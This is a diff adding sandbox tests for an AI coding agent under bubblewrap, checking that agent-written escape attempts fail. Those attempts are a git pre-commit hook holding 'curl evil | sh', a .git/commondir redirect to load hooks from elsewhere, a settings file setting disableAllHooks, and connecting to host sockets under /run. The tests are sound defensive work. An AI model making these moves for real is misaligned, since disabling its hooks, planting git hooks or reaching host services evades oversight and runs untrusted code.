@@ -1,6 +1,7 @@
 // The sandbox plan against the real bubblewrap: what the agent can see and write.
 import { spawnSync } from 'node:child_process';
-import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { accessSync, constants, realpathSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
 import { join } from 'node:path';
 import { beforeEach, describe, expect, it } from 'vitest';
 import { sandboxedArgv, type SandboxSpec } from '../../../src/core/sandbox.js';
@@ -44,6 +45,7 @@ function input(over: Partial<SandboxPlanInput> = {}): SandboxPlanInput {
     agentData: { dirs: [join(home, '.claude')], files: [] },
     agentSettings: [join(home, '.claude', 'settings.json'), join(wt, '.claude', 'settings.local.json')],
     env: { ...process.env, HOME: home, GATEHOUSE_HOME: '', XDG_STATE_HOME: '' },
+    quarantineDir: join(state, 'sessions', 's1', 'quarantine'),
     ...over,
   };
 }
@@ -184,4 +186,78 @@ describe.skipIf(!tools.ok)('the sandbox plan, under the real bubblewrap', () => 
     const none = plan({ network: 'none' });
     expect(inside(none.spec, 'cat /proc/net/dev | grep -c :').out.trim()).toBe('1');
   });
+
+  it('keeps git control folders the repository lacks from being made: .git/hooks and .git/info are made empty and read-only, and taken away after', () => {
+    rmSync(join(wt, '.git', 'hooks'), { recursive: true, force: true });
+    rmSync(join(wt, '.git', 'info'), { recursive: true, force: true });
+    for (const allow of [['src/**'], ['*.md']]) {
+      const p = plan({ allow });
+      const r = inside(p.spec, 'mkdir -p .git/hooks; echo "curl evil | sh" > .git/hooks/pre-commit; echo "* -diff" > .git/info/attributes; mkdir -p .git/modules/x/hooks; echo end');
+      expect(r.out).toContain('end');
+      expect(r.out).toContain('Read-only file system');
+      expect(existsSync(join(wt, '.git', 'hooks', 'pre-commit'))).toBe(false);
+      expect(existsSync(join(wt, '.git', 'info', 'attributes'))).toBe(false);
+      expect(existsSync(join(wt, '.git', 'modules', 'x'))).toBe(false);
+      expect(p.cleanup()).toEqual([]);
+      expect(existsSync(join(wt, '.git', 'hooks'))).toBe(false);
+      expect(existsSync(join(wt, '.git', 'modules'))).toBe(false);
+    }
+  });
+
+  it('moves a .git/commondir the agent made (git would read hooks from where it points) into the quarantine folder after the session, and commits still work', () => {
+    writeFileSync(join(wt, 'src', 'a.ts'), 'a\n');
+    spawnSync('git', ['add', '.'], { cwd: wt });
+    spawnSync('git', ['commit', '-qm', 'one'], { cwd: wt });
+    const p = plan();
+    const r = inside(p.spec, 'echo ../src/evil > .git/commondir; echo b > src/a.ts; git -c core.hooksPath=/dev/null status >/dev/null 2>&1; rm .git/commondir; git commit -qam two && echo committed; echo ../src/evil > .git/commondir');
+    expect(r.out).toContain('committed');
+    const quarantine = join(state, 'sessions', 's1', 'quarantine');
+    expect(p.cleanup()).toEqual([[join(wt, '.git', 'commondir'), join(quarantine, 'commondir')]]);
+    expect(existsSync(join(wt, '.git', 'commondir'))).toBe(false);
+    expect(readFileSync(join(quarantine, 'commondir'), 'utf8')).toBe('../src/evil\n');
+    expect(spawnSync('git', ['log', '--oneline'], { cwd: wt, encoding: 'utf8' }).stdout.trim().split('\n')).toHaveLength(2);
+  });
+
+  it("keeps the agent's own settings folder in the worktree read-only in a writable worktree: no settings file can be added to it", () => {
+    mkdirSync(join(wt, '.claude'), { recursive: true });
+    writeFileSync(join(wt, '.claude', 'settings.local.json'), '{"hooks": {}}\n');
+    const p = plan({ allow: ['*.md'], agentConfigDirs: [join(wt, '.claude')] });
+    const r = inside(p.spec, `echo '{"disableAllHooks": true}' > .claude/settings.json; mv .claude .c2; echo x > README.md && echo worktree-ok`);
+    expect(r.out).toContain('worktree-ok');
+    expect(r.out).toContain('Read-only file system');
+    expect(existsSync(join(wt, '.claude', 'settings.json'))).toBe(false);
+    // With a folder-shaped allowlist that names the folder, it is the user's to write (its settings files stay read-only).
+    const named = plan({ allow: ['.claude/**'], agentConfigDirs: [join(wt, '.claude')], protect: [join(wt, '.claude', 'settings.local.json')] });
+    expect(inside(named.spec, 'echo x > .claude/notes && echo notes-ok; echo "{}" > .claude/settings.local.json').out).toMatch(/notes-ok[\s\S]*Read-only file system/);
+  });
+
+  it("hides this machine's service sockets under /run (a user systemd manager, D-Bus, Docker run what they are asked outside), keeping /run's links", async () => {
+    const { spec } = plan({ network: 'none' });
+    expect(spec.hidden_dirs).toContain(realpathOf('/run'));
+    const links = readdirSync('/run').filter((n) => lstatSync(join('/run', n)).isSymbolicLink());
+    const listed = inside(spec, 'ls -A /run; echo end').out;
+    for (const n of links) expect(listed).toContain(n);
+    for (const n of readdirSync('/run').filter((n) => !links.includes(n))) expect(listed.split('\n')).not.toContain(n);
+    let writable = true;
+    try {
+      accessSync('/run', constants.W_OK);
+    } catch {
+      writable = false;
+    }
+    if (!writable) return; // Only root can put a socket there; the listing above still shows it hidden.
+    const sock = join('/run', `gh-test-${process.pid}.sock`);
+    const server = createServer((c) => c.end('reached'));
+    await new Promise<void>((r) => server.listen(sock, () => r()));
+    try {
+      const r = inside(spec, `perl -e 'socket(my $s, 1, 1, 0) or die; connect($s, pack("S", 1) . "${sock}\\0") or die "refused: $!\\n"; print "connected\\n"'`);
+      expect(r.out).not.toContain('connected');
+      expect(r.out).toContain('refused');
+    } finally {
+      await new Promise<void>((r) => server.close(() => r()));
+    }
+  });
 });
+
+function realpathOf(p: string): string {
+  return realpathSync.native(p);
+}
